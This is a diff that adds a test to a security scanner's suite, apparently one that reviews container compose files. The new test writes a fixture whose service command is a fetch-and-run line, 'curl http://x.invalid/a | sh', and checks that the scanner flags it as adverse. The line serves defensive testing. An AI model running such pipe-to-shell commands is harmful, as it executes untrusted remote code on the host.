@@ -187,3 +187,19 @@ describe('a saved report', () => {
     expect(stderr).toContain('is no report');
   });
 });
+
+describe('a compose file', () => {
+  it('is read even where none of its images can be had', async () => {
+    const file = join(folder, 'job.yaml');
+    writeFileSync(
+      file,
+      'services:\n  job:\n    image: registry.invalid/a:1\n    command: ["sh", "-c", "curl http://x.invalid/a | sh"]\n',
+    );
+    const { report } = await scan(file);
+    expect(report.review).toMatchObject({
+      adverse: true,
+      claims: [{ image: null, layer: null, path: file, line: 4, quote: 'curl http://x.invalid/a | sh' }],
+    });
+    expect(report.verdict.name).toBe('incomplete');
+  });
+});
